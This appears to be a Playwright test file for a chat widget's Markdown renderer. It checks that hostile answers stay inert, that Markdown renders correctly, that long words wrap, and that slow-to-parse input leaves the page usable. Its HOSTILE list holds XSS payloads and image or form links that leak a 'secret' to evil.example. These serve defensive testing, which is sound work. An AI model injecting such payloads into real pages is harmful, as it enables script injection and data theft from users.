"""Markdown of a model on the page: what it becomes, and what it never becomes."""

import pytest
from playwright.async_api import Locator, Page, expect

from tests.connectors.web.edges import SOURCE, Bus, HubProcess
from tests.connectors.web.widget.reading import ask, whole_answer

pytestmark = pytest.mark.asyncio(loop_scope="module")


HOSTILE = (
    "<script>window.pwned = 1</script>",
    '<img src="/x" onerror="window.pwned = 1">',
    "<svg onload='window.pwned = 1'></svg><iframe src='javascript:top.pwned = 1'></iframe>",
    "[click](javascript:window.pwned=1) [tab](java\tscript:window.pwned=1) [J](JaVaScRiPt:window.pwned=1)",
    "[d](data:text/html,<script>window.pwned=1</script>) [v](vbscript:pwned) [f](file:///etc/passwd) [r](/relative)",
    "![pixel](https://evil.example/pixel.png?q=secret) ![](https://evil.example/x)",
    "<style>* { display: none }</style><form action='https://evil.example'><input name=a></form>",
    '[x](https://a.example/"onmouseover="window.pwned=1) `</code><script>window.pwned=1</script>`',
    "```html\n<script>window.pwned = 1</script>\n```",
    "[![a](https://evil.example/a.png)](javascript:window.pwned=1)",
    "<https://ok.example/> <javascript:window.pwned=1> javascript:window.pwned=1",
)


async def test_hostile_answers_are_inert(page: Page, hub: HubProcess, bus: Bus) -> None:
    """Markup of the model or of a document is text; links lead to http, https and mailto alone."""
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    for text in HOSTILE:
        await hub.answer(
            await ask(page, bus, text), text, SOURCE.model_copy(update={"quote": text, "title": text})
        )
        for link in await (await whole_answer(page)).get_by_role("link").all():
            await link.hover()

    root = page.locator(".list")
    forbidden = root.locator(
        "script, img, iframe, style, form, input, object, .body svg:not(.icon), .body [onerror]"
    )
    assert await forbidden.count() == 0
    hrefs = await root.locator("a").evaluate_all("links => links.map(a => [a.protocol, a.rel, a.target])")
    assert hrefs
    assert {tuple(href) for href in hrefs} == {("https:", "noopener nofollow ugc", "_blank")}
    assert await page.evaluate("window.pwned") is None
    assert requests == []


async def test_markdown_becomes_elements(page: Page, hub: HubProcess, bus: Bus) -> None:
    """Paragraphs, emphasis, code, lists, quotes, headings and links look as they should."""
    text = (
        "## Steps\n\nSome **bold**, *italic*, ~~gone~~, `code_with_snake` and snake_case_word.\nNext line.\n\n"
        "1. one\n2. two\n   - inner\n\n> quoted\n\n---\n```py\nprint('<b>')\n```\n"
        "See [the page](https://example.org/a_(b)) or https://example.org/x, or <https://example.org/y>. \\*no\\*"
    )
    await hub.answer(await ask(page, bus), text)
    whole = await whole_answer(page)

    def body(selector: str) -> Locator:
        return whole.locator(selector)

    await expect(body("pre")).to_have_text("print('<b>')")
    await expect(body(".heading strong")).to_have_text("Steps")
    await expect(body("p:not(.heading) > strong")).to_have_text("bold")
    await expect(body("em")).to_have_text("italic")
    await expect(body("s")).to_have_text("gone")
    await expect(body("p > code")).to_have_text("code_with_snake")
    await expect(body("ol > li")).to_have_text(["one", "twoinner"])
    await expect(body("ol ul li")).to_have_text("inner")
    await expect(body("blockquote")).to_have_text("quoted")
    await expect(body("hr")).to_have_count(1)
    assert await body("a").evaluate_all("links => links.map(a => a.href)") == [
        "https://example.org/a_(b)",
        "https://example.org/x",
        "https://example.org/y",
    ]
    await expect(body("p").last).to_contain_text("*no*")


@pytest.mark.parametrize(
    "word", ["x" * 100_000, "https://example.org/" + "x" * 1_900, "a" + "\u0301" * 5_000]
)
async def test_word_without_an_end_stays_in_its_bubble(
    page: Page, hub: HubProcess, bus: Bus, word: str
) -> None:
    """It is wrapped: neither the log nor the page can be scrolled to the side."""
    await hub.answer(await ask(page, bus), f"{word} and **more**")
    await whole_answer(page)

    assert await page.locator(".log").evaluate("node => node.scrollWidth <= node.clientWidth")
    assert await page.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "*a ",
        "**",
        "> ",
        "`" * 3 + "\n",
        "[a](",
        "_a_b",
        "- ",
        "![",
        "<http://",
        "#" * 20,
        "(((",
        "a*b_c`",
    ],
)
async def test_markdown_bomb_does_not_stop_the_page(page: Page, hub: HubProcess, bus: Bus, unit: str) -> None:
    """Forty thousand characters made to be slow are drawn while the page stays usable."""
    turn = await ask(page, bus)
    await page.evaluate(
        "window.longest = 0; let last = performance.now();"
        "(function tick() { const now = performance.now(); longest = Math.max(longest, now - last); last = now;"
        " setTimeout(tick, 0) })()"
    )
    await hub.answer(turn, unit * (39_900 // len(unit)) + "\n\nthe end")

    assert await (await whole_answer(page)).evaluate("node => node.querySelectorAll('*').length") < 2000
    assert await page.evaluate("longest") < 5000
